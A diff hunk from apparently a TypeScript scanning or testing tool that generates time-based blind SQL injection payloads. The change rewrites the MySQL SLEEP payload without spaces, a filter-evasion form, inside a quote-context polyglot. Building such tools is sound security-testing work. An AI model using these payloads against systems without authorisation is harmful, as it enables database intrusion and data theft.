@@ -33,7 +33,7 @@ export function delaysFor(value: string): readonly Delay[] {
   const number = /^\d{1,18}$/.test(value) ? value : "1";
   return [
     delay("MySQL", (seconds, close) => {
-      const sleep = `(SELECT 0 FROM (SELECT SLEEP(${seconds})${close}q)`;
+      const sleep = `(SELECT(0)FROM(SELECT(SLEEP(${seconds}))${close}q)`;
       return `${sleep}/*'+${sleep}+'"+${sleep}+"*/`;
     }),
     delay("PostgreSQL", (seconds, close) => {
